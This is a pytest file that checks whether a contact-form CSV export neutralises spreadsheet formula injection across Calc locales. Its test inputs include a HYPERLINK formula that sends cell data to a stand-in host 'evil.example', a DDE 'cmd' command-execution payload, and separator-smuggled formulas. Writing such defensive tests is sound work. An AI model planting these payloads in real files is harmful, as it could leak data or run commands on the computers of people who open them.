"""The CSV export, opened by a real spreadsheet program (LibreOffice Calc, headless) as a comma, a semicolon
and a tab locale would read it: no cell ever holds a formula, and names, messages and phone numbers read as
the visitor typed them."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from csv_export import COLUMNS, neutralise, to_csv
from tests.support.spreadsheet import SEPARATORS, open_in_calc

# What a visitor may type to reach a formula in any locale.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "ok;=1+1",
    "ok,=1+1",
    "ok\t=1+1",
    'ok; "=1+1',
    '";=1+1;"',
    '",=1+1,"',
    "line one\n=1+1",
    "line one\r\n@SUM(1)",
    "\t=1+1",
]
# Ordinary text that must survive unchanged.
AS_TYPED = {
    "first_name": ["Zoë", "O'Brien", "Anne-Marie", "José María"],
    "last_name": ["Lovelace", "de la Cruz", "Müller-Lüdenscheidt", "Ng"],
    "phone_number": ["+44 20 7946 0000", "(555) 123-4567", "+1-202-555-0143", "+33 1 23 45 67 89"],
    "message": [
        "Hello, we'd like a quote; two sites.",
        'She said "hi" and left.\nSecond line',
        "Price: 10,- EUR (net)",
        "Emoji 😀 and ünïcödé",
    ],
}


def generated(count: int) -> list[str]:
    """Seeded text dense in separators, quotes, line breaks and formula characters."""
    rng = random.Random(20261126)
    alphabet = "=+-@;,\t\r\n\" 'aZ09().|%&!"
    return ["".join(rng.choices(alphabet, k=rng.randint(1, 40))) for _ in range(count)]


def _items() -> list[dict[str, str]]:
    items = [{"created_at": "2026-11-26T10:00:00.000Z", "status": "new", "message": text} for text in HOSTILE]
    items += [{"created_at": "2026-11-26T10:00:00.000Z", "status": "new", "company": text} for text in HOSTILE]
    for n in range(4):
        items.append(
            {"created_at": "2026-11-26T11:00:00.000Z", "status": "new", **{k: v[n] for k, v in AS_TYPED.items()}}
        )
    return items


@pytest.fixture(scope="module")
def export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("export") / "submissions.csv"
    path.write_text(to_csv(_items()), encoding="utf-8")  # to_csv writes the BOM itself
    return path


@pytest.mark.parametrize("locale", list(SEPARATORS))
def test_no_cell_holds_a_formula_in_any_locale(export: Path, tmp_path: Path, locale: str) -> None:
    rows = open_in_calc(export, SEPARATORS[locale], tmp_path)
    assert len(rows) > len(HOSTILE)
    formulas = [(n, text) for n, row in enumerate(rows) for formula, text in row if formula]
    assert formulas == [], f"{locale}: cells Calc made into formulas"


def test_names_messages_and_phone_numbers_read_as_typed(export: Path, tmp_path: Path) -> None:
    rows = open_in_calc(export, SEPARATORS["comma"], tmp_path)
    header = [text for _, text in rows[0]][: len(COLUMNS)]
    assert header == list(COLUMNS)
    read = [dict(zip(header, (text for _, text in row), strict=False)) for row in rows[1:]]
    for n in range(4):
        row = read[2 * len(HOSTILE) + n]
        for column, values in AS_TYPED.items():
            assert row[column] == values[n], (column, row[column])
    for n, text in enumerate(HOSTILE):  # shown as text, with at most an apostrophe before a formula character
        assert read[n]["message"] == neutralise(text).replace("\r\n", "\n")
